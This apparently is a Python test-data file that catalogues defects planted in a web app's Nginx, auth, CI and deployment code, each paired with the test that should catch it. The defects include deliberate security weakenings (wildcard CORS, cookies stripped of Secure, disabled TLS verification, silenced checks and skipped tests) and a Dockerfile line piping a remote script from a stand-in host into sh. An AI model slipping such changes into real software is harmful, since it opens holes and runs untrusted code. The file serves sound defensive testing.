"""Defects that outside reviewers planted, and that our tests missed at first."""

from __future__ import annotations

from functools import partial

from tests.sabotage.defect import Defect

KUBERNETES = {"deployment": "kubernetes"}
SYSTEMD = {"deployment": "systemd"}
audits = partial(Defect, "audits")
https = partial(Defect, "https")
links = partial(Defect, "links")
CHECKER = "test_a_finding_of_a_checker_fails"
OIDC = {"auth": "oidc"}
TOKEN = {"auth": "token"}
LOCKS = "test_a_command_locks_the_account_first"
accounts = partial(Defect, "account locks")
left_out = partial(Defect, "audits", guard="test_only_what_a_machine_lacks_skips_a_test")
numbers = partial(Defect, "numbers", guard="test_every_number_is_in_the_table")
nginx = partial(Defect, "nginx", guard="test_every_line_of_nginx_is_in_the_table")

DEFECTS = [
    audits(
        "Ctrl-C ends a migration half way",
        "setsid docker compose run",
        "docker compose run",
        "test_a_deployment_is_these_steps",
    ),
    audits(
        "the terminal shows the mail server's password",
        "case $1 in *SECRET* | MAIL_URL) silent=yes",
        "case $1 in *SECRET*) silent=yes",
        "test_a_secret_that_is_typed_is_not_shown",
    ),
    audits(
        "a finding of a checker of Docker fails nothing",
        '    "$@" || failed=1\n',
        '    "$@" || true\n',
        CHECKER,
        file="deploy/docker/check.sh",
    ),
    audits(
        "a finding of a checker of Kubernetes fails nothing",
        '        "$@" || status=1\n',
        '        "$@" || true\n',
        CHECKER,
        KUBERNETES,
        "deploy/kubernetes/check.sh",
    ),
    audits(
        "the exposure of the units is not judged",
        "            *) most=5 ;;\n",
        "            *) most=50 ;;\n",
        CHECKER,
        SYSTEMD,
    ),
    audits(
        "the administrator's password stays on the host",
        '    rm -rf "$scratch" "$unfinished"\n',
        '    rm -rf "$unfinished"\n',
        "test_installed_files_have_the_allowed_owners_and_modes",
        SYSTEMD,
    ),
    audits(
        "an uninstallation keeps the backups",
        '"$data" "$backups" "$data-certificate"',
        '"$data" "$data-certificate"',
        "test_an_uninstallation_keeps_the_data_unless_told",
        SYSTEMD,
    ),
    audits(
        "a host that was off misses its backup",
        "# A host that was off makes up for it.\nPersistent=true\n",
        "",
        "test_each_unit_matches_the_policy",
        SYSTEMD,
        "deploy/systemd/app-backup.timer",
    ),
    audits(
        "a backup is named by a path",
        "*[!A-Za-z0-9.-]*)",
        "*[!A-Za-z0-9./-]*)",
        "test_a_backup_has_a_name_and_no_path",
        KUBERNETES,
    ),
    audits(
        "two backups at once",
        "concurrencyPolicy: Forbid",
        "concurrencyPolicy: Allow",
        "test_a_backup_is_written_each_night",
        KUBERNETES,
    ),
    https(
        "Nginx takes the key of another certificate",
        'waiting for a matching pair"\n        return 1\n',
        'waiting for a matching pair"\n        return 0\n',
        "test_nginx_refuses_the_key_of_another_certificate",
    ),
    https(
        "a refused health check is healthy",
        "response.status < 400",
        "response.status < 500",
        "test_the_container_is_unhealthy_when_a_page_fails",
    ),
    https(
        "a stop loses requests",
        '    rm -f "$socket"\n    : >"$socket"',
        '    : >"$socket"',
        "test_nginx_stops_accepting_before_the_app_stops",
    ),
    https(
        "plain HTTP on the port of TLS gets the page of Nginx",
        "error_page 495 496 497 =400",
        "error_page 495 496 =400",
        "test_plain_http_on_the_port_of_tls_gets_our_page",
    ),
    links(
        "the error log of Nginx quotes the token of one kind of link",
        "(confirm|reset|email|undo|unlock|keep)",
        "(confirm|reset|email|undo|unlock)",
        "test_nginx_writes_no_token_of_any_link",
        file="deploy/nginx/site.conf",
    ),
    links(
        "a link is deleted before its end",
        'now() - LIFETIMES["undo"])',
        'now() - LIFETIMES["email"])',
        "test_a_link_lives_as_long_as_it_says",
    ),
    Defect(
        "auth.address_change",
        "the owner of a moved account hears of no deletion",
        "    told = {user.email, *account_links.undoable(user)}\n",
        "    told = {user.email}\n",
        "test_the_old_address_gets_a_mail_about_a_deletion",
    ),
    Defect(
        "auth.address_change",
        "a former mailbox hears of a deletion for ever",
        "        Link.token_hash.is_not(None),\n        Link.expires_at > now(),\n",
        "        Link.token_hash.is_not(None),\n",
        "test_the_old_address_gets_a_mail_about_a_deletion",
    ),
    Defect(
        "second factors",
        "a reset does not wait for its mail",
        "user.email, end - DELAY)",
        "user.email, end)",
        "test_nothing_ends_before_the_owner_had_a_day_to_read_the_mail",
    ),
    Defect(
        "step-up",
        "a new password is a fresh proof",
        "identity.start_session(user, proof, proven_at, **kept)",
        "identity.start_session(user, proof, this.last_seen_at, **kept)",
        "test_a_new_password_is_no_fresh_proof",
    ),
    Defect(
        "second factors",
        "a session of an older version needs no second factor",
        'session.proof in ("", PASSWORD):',
        "session.proof == PASSWORD:",
        "test_a_password_session_must_prove_a_required_factor",
    ),
    Defect(
        "logs",
        "a wrong password as a proof is not logged",
        "    if not authentication.reauthenticate(session, password):\n"
        '        security_event("authn_step_up_fail", account=session.user_id)\n',
        "    if not authentication.reauthenticate(session, password):\n",
        "test_a_wrong_password_as_a_proof_is_logged",
    ),
    Defect(
        "rate_limits",
        "a second factor by passkey has the limit of writes",
        '@blueprint.post("/second-factor/passkey")\n@public\n@account_limits.passkey\n',
        '@blueprint.post("/second-factor/passkey")\n@public\n',
        "test_every_open_route_that_changes_something_has_a_limit_of_its_own",
    ),
    Defect(
        "rate_limits",
        "all IPv4 addresses in IPv6 are one",
        "        if address.ipv4_mapped:\n            return str(address.ipv4_mapped)\n",
        "",
        "test_an_ipv4_address_in_ipv6_is_that_address",
    ),
    Defect(
        "passwords",
        "a leaked password is looked for as it was typed",
        "is_breached(_normalize(password))",
        "is_breached(password)",
        "test_a_password_is_looked_up_in_its_normalized_form",
    ),
    Defect(
        "passwords",
        "a transaction is open while a leak is looked for",
        "    db.session.commit()  # the database ends a transaction",
        "    # the database ends a transaction",
        "test_no_transaction_is_open_while_it_is_asked",
    ),
    Defect(
        "access",
        "a sign-in deletes running sessions of other users",
        "delete_expired(Session, Session.last_seen_at, now() - idle)",
        "delete_expired(Session, Session.created_at, now() - idle)",
        "test_a_sign_in_deletes_no_session_that_another_user_still_has",
    ),
    accounts(
        "an operator ends sessions without the lock",
        "    user = locked_user(email) if email else None\n",
        "    user = find_user(email) if email else None\n",
        LOCKS,
    ),
    accounts(
        "an operator ends sessions of a provider's user without the lock",
        "    user = locked_user(email) if email else None\n",
        "    user = find_user(email) if email else None\n",
        LOCKS,
        OIDC,
    ),
    accounts(
        "an operator resets failures without the lock",
        "    user = locked_user(email)\n    failures",
        "    user = find_user(email)\n    failures",
        LOCKS,
    ),
    accounts(
        "an operator disables an account without the lock",
        "    user = locked_user(email)\n    ended = accounts",
        "    user = find_user(email)\n    ended = accounts",
        LOCKS,
    ),
    accounts(
        "an operator disables an account of the provider without the lock",
        "    if not account_lock.lock(user):\n        abort(404)\n    return user",
        "    return user",
        "test_an_operator_disables_and_enables",
        OIDC,
    ),
    accounts(
        "the owner is told of an enabling that nobody did",
        "    if user.disabled_at is None:\n        return False\n",
        "",
        "test_no_notice_is_sent_when_nothing_changed",
    ),
    accounts(
        "an operator disables a password without the lock",
        "        lock_account(user)  # of a sign-in at the same time, no session stays\n",
        "",
        LOCKS,
    ),
    accounts(
        "wrong proofs are counted without the lock",
        "    session_lock.roll_back(session)\n    account_lock.lock(session.user)\n",
        "    session_lock.roll_back(session)\n",
        "test_wrong_proofs_are_counted_for_the_account",
    ),
    accounts(
        "a session that has just ended makes a personal token",
        "user, lifetime = identity.locked_session().user, timedelta(days=body.days)",
        "user, lifetime = identity.current_user(), timedelta(days=body.days)",
        "test_the_list_says_when_a_token_was_used",
        TOKEN,
    ),
    accounts(
        "of two first sign-ins at once, both create the account",
        "    _lock(keys)\n",
        "",
        "test_two_first_sign_ins_at_once_make_one_account",
        OIDC,
    ),
    accounts(
        "a session that has just ended deletes the account",
        "deletion.delete_account(identity.locked_session().user)",
        "deletion.delete_account(identity.current_user())",
        "test_deletion.py",
        OIDC,
    ),
    Defect(
        "pages",
        "a code is shown again when the session has ended",
        'SECRET = ("confirm", "code", "credential")',
        'SECRET = ("confirm", "credential")',
        "test_no_field_for_a_secret_is_kept",
    ),
    Defect(
        "resets of factors",
        "a passkey alone keeps no second factors",
        "    if proof != PASSWORD:\n        factor_resets.cancel(user,",
        "    if proof != PASSWORD and after_password:\n        factor_resets.cancel(user,",
        "test_whoever_uses_a_passkey_needs_no_reset",
    ),
    Defect(
        "database",
        "an edit names a version that does not exist yet",
        "if row.version != version:",
        "if row.version > version:",
        "test_an_edit_of_a_version_that_is_not_there_is_refused",
    ),
    Defect(
        "identity_provider",
        "an answer that names another provider counts where ours promises no name",
        'if ("iss" in answer or promised) and',
        "if promised and",
        "test_an_answer_that_names_another_provider_is_refused",
        OIDC,
    ),
    Defect(
        "identity_provider",
        "the words of a group are groups",
        "values = found if isinstance(found, list) else [found]",
        "values = found if isinstance(found, list) else str(found).split()",
        "test_only_the_allowed_groups_get_in",
        OIDC,
    ),
    https(
        "a client that does not read occupies a thread",
        "proxy_max_temp_file_size 32m;",
        "proxy_max_temp_file_size 0;",
        "test_a_client_that_does_not_read_occupies_no_thread_of_the_app",
    ),
    Defect(
        "sanitization",
        "a form has any number of fields",
        "if request.mimetype == FORM and request",
        "if request.mimetype != FORM and request",
        "test_a_form_has_at_most_50_fields",
    ),
    Defect(
        "auth.sessions",
        "the next session with its id is the one that has ended",
        "    return Session.id == session.id, Session.public_id == session.public_id\n",
        "    return Session.id == session.id, Session.id == session.id\n",
        "test_the_next_session_of_the_owner_does_not_count_as_the_one_that_has_just_ended",
    ),
    Defect(
        "tickets",
        "the next ticket with its id is the one that has ended",
        "    return Ticket.id == ticket.id, Ticket.token_hash == ticket.token_hash\n",
        "    return Ticket.id == ticket.id, Ticket.id == ticket.id\n",
        "test_a_ticket_with_the_id_of_one_that_has_ended_is_another",
    ),
    Defect(
        "personal_tokens",
        "a restore brings revoked tokens back",
        'ENDED = {"personal_tokens", "sessions", "tickets"}',
        'ENDED = {"sessions", "tickets"}',
        "test_a_restore_revokes_all_tokens",
        TOKEN,
    ),
    Defect(
        "personal_tokens",
        "a feature whose name begins like the account is closed",
        'ACCOUNT = ("/api/v1/auth/", "/api/v1/me/")',
        'ACCOUNT = ("/api/v1/auth/", "/api/v1/me")',
        "test_a_feature_whose_name_begins_like_the_account_is_open",
        TOKEN,
    ),
    Defect(
        "safe_methods",
        "a statement of a module may write in a GET request",
        'OF_ALL = {"unscoped": "the session of any user,',
        'OF_ALL = {"writes": "it is small", "unscoped": "the session of any user,',
        "test_only_these_modules_let_a_statement_write_in_a_get_request",
    ),
    audits(
        "a page hides a line from the scan for secrets",
        '<meta charset="utf-8">\n',
        '<meta charset="utf-8"><!-- gitleaks:allow -->\n',
        "test_only_listed_marks_exempt_code_from_a_checker",
        file="app/templates/base.html",
    ),
    https(
        "IPv6 is served without TLS",
        "listen [::]:8443 ssl;",
        "listen [::]:8443;",
        "test_ipv6_is_served_like_ipv4",
    ),
    audits(
        "every user of the machine reads the key of development",
        "@umask 077 && printf",
        "@printf",
        "test_only_the_developer_reads_the_key",
    ),
    audits(
        "no finding in the deployment fails its check",
        "sh deploy/docker/check.sh\n",
        "sh deploy/docker/check.sh || true\n",
        "test_no_failure_is_hidden",
        file="Makefile",
    ),
    audits(
        "only errors in the scripts of Docker are findings",
        "shellcheck --severity=style",
        "shellcheck --severity=error",
        CHECKER,
    ),
    audits(
        "no finding in the manifests is a failure",
        "--skip-download --file",
        "--skip-download --soft-fail --file",
        CHECKER,
        KUBERNETES,
    ),
    audits(
        "only errors in the scripts of a host are findings",
        "shellcheck --external-sources --severity=style",
        "shellcheck --external-sources --severity=error",
        CHECKER,
        SYSTEMD,
    ),
    nginx(
        "Nginx lets every site read the answers",
        "add_header X-Content-Type-Options",
        'add_header Access-Control-Allow-Origin "*" always;\nadd_header X-Content-Type-Options',
    ),
    nginx(
        "Nginx takes Secure from the cookies",
        "proxy_redirect off;\n",
        "proxy_redirect off;\nproxy_cookie_flags ~ nosecure nohttponly;\n",
    ),
    nginx(
        "Nginx hides a header of the app",
        "proxy_hide_header Strict-Transport-Security;\n",
        "proxy_hide_header Strict-Transport-Security;\n"
        "proxy_hide_header Cross-Origin-Opener-Policy;\n",
    ),
    nginx(
        "an unknown version of HTTP gets no page of ours",
        " 502 503 504 505 $error_page;",
        " 502 503 504 $error_page;",
    ),
    nginx(
        "Nginx takes a header of the app as a command",
        "proxy_redirect off;\n",
        "proxy_redirect off;\nproxy_pass_header X-Accel-Redirect;\n",
    ),
    https(
        "a line among the settings of TLS",
        "ssl_early_data off;\n",
        "ssl_early_data off;\nproxy_ssl_verify off;\n",
        "test_tls_is_what_mozilla_recommends",
    ),
    left_out(
        "a test asks for nothing and is left out",
        '    expected, found = table("nginx.list"), nginx()\n',
        '    if True == bool(1):\n        pytest.skip("no nginx")\n'
        '    expected, found = table("nginx.list"), nginx()\n',
        file="tests/security/test_nginx.py",
    ),
    left_out(
        "a test is left out on every machine that we have",
        '@pytest.mark.parametrize(\n    ("text", "read"),',
        '@pytest.mark.skipif(bool(Path.cwd()), reason="not here")\n'
        '@pytest.mark.parametrize(\n    ("text", "read"),',
        file="tests/security/test_nginx.py",
    ),
    Defect(
        "account locks",
        "a row that is refused at the last try counts as locked",
        "            if not simultaneous or not left:\n",
        "            if not simultaneous and not left:\n",
        "test_a_row_that_is_refused_each_time_is_an_error",
    ),
    audits(
        "a test ends before it asserts",
        '    expected, found = table("nginx.list"), nginx()\n',
        '    if __name__:\n        return\n    expected, found = table("nginx.list"), nginx()\n',
        "test_no_test_ends_early",
        file="tests/security/test_nginx.py",
    ),
    Defect(
        "secret",
        "a function hands out an address, and another logs it",
        '    security_event("user_disabled", level=logging.INFO, account=user.id)\n'
        "    return ended\n",
        '    security_event("user_disabled", level=logging.INFO, account=named(user))\n'
        "    return ended\n\n\n"
        "def named(user: User) -> str:\n"
        '    """The user for the log."""\n'
        '    return f"user {user.email.reveal()}"\n',
        "test_no_secret_is_revealed_into_a_log_or_an_exception",
    ),
    left_out(
        "every Nginx is too old for its tests",
        "if reason := too_old(path):",
        'if reason := "too old":',
        file="tests/needs.py",
    ),
    audits(
        "a program that CI lacks is no failure there",
        '    if os.environ.get("CI"):\n        pytest.fail(reason)\n',
        "",
        "test_what_is_missing_fails_in_ci_and_leaves_out_elsewhere",
        file="tests/needs.py",
    ),
    numbers(
        "a command lists all accounts at once", "PAGE, LONGEST = 50, 1000", "PAGE = LONGEST = 9**9"
    ),
    numbers(
        "the page of metrics waits for Nginx for a minute",
        "TIMEOUT = 2  # seconds",
        "TIMEOUT = 60  # seconds",
        file="app/metrics/certificate.py",
    ),
    numbers("a title may have 12,000 characters", "MAX_TITLE = 120 ", "MAX_TITLE = 12_000 "),
    Defect(
        "audits",
        "tests without parameters are left out",
        'empty_parameter_set_mark = "fail_at_collect"',
        'empty_parameter_set_mark = "skip"',
        "test_the_checkers_examine_all_files",
    ),
    Defect(
        "database",
        "a migration may leave rows without their owner",
        '        if broken := connection.exec_driver_sql("PRAGMA foreign_key_check").all():\n'
        '            raise ValueError(f"rows would refer to rows that are gone: {broken[:3]}")\n',
        "",
        "test_a_migration_that_leaves_rows_without_their_owner_is_refused",
    ),
    Defect(
        "database",
        "two migrations at once run the same one",
        '        connection.exec_driver_sql("BEGIN IMMEDIATE")\n',
        "",
        "test_two_migrations_at_once_are_one_after_the_other",
    ),
    Defect(
        "database",
        "of a migration that fails, a part stays",
        "        transactional_ddl=True,  # SQLite can",
        "        # SQLite can",
        "test_a_migration_that_leaves_rows_without_their_owner_is_refused",
    ),
    audits(
        "a package is locked that nothing asks for",
        "#    make lock\n",
        f"#    make lock\nleft-pad==1.0 \\\n    --hash=sha256:{'0' * 64}\n",
        "test_a_lock_has_only_what_something_asks_for",
        file="requirements.lock",
    ),
    audits(
        "the container for development runs a script from elsewhere",
        "RUN useradd --create-home",
        "RUN curl --silent https://example.com/setup | sh\nRUN useradd --create-home",
        "test_the_container_is_these_steps",
        file=".devcontainer/Dockerfile",
    ),
    audits(
        "GitLab installs a package that is not locked",
        "    - apt-get update --quiet\n",
        "    - pip install tox\n    - apt-get update --quiet\n",
        "test_gitlab_runs_the_same_gates",
        file="docs/gitlab-ci.yml",
    ),
    audits(
        "GitHub takes an image by its tag",
        "image: python:3.11-slim-trixie@sha256:",
        "image: python:3.11-slim-trixie # sha256:",
        "test_a_workflow_runs_its_targets_and_nothing_else",
        file=".github/workflows/ci.yml",
    ),
    audits(
        "GitHub tests with an Nginx that is too old",
        "    container:\n      image: ${{ matrix.image }}\n",
        "",
        "test_a_workflow_runs_its_targets_and_nothing_else",
        file=".github/workflows/ci.yml",
    ),
    https(
        "Nginx serves the old certificate until it restarts",
        '        kill -HUP "$nginx"\n    fi',
        "        :\n    fi",
        "test_nginx_loads_a_new_certificate_while_it_runs",
    ),
    https(
        "certbot asks for a certificate each time",
        "--non-interactive --keep-until-expiring --agree-tos",
        "--non-interactive --force-renewal --agree-tos",
        "test_certbot_asks_twice_a_day_and_each_hour_after_a_failure",
    ),
    https(
        "certbot asks too late",
        "wait=43200 #",
        "wait=4320000 #",
        "test_certbot_asks_twice_a_day_and_each_hour_after_a_failure",
    ),
    https(
        "certbot of a host asks the authority each time",
        "--key-type ecdsa --keep-until-expiring",
        "--key-type ecdsa --force-renewal",
        "test_only_nginx_gets_a_new_certificate",
        SYSTEMD,
    ),
    Defect(
        "rate_limits",
        "a body that stalls occupies a thread of the app",
        "proxy_redirect off;\n",
        "proxy_redirect off;\nproxy_request_buffering off;\n",
        "test_a_body_that_stalls_ends_and_never_reaches_the_app",
    ),
    Defect(
        "rate_limits",
        "a request that hangs gets the page of Nginx",
        " 502 503 504 505 $error_page;",
        " 502 503 505 $error_page;",
        "test_a_request_that_hangs_is_given_up",
    ),
    Defect(
        "rate_limits",
        "a worker that hangs stays for ever",
        "timeout = 30  #",
        "timeout = 0  #",
        "test_a_worker_without_a_sign_of_life_is_replaced",
    ),
]
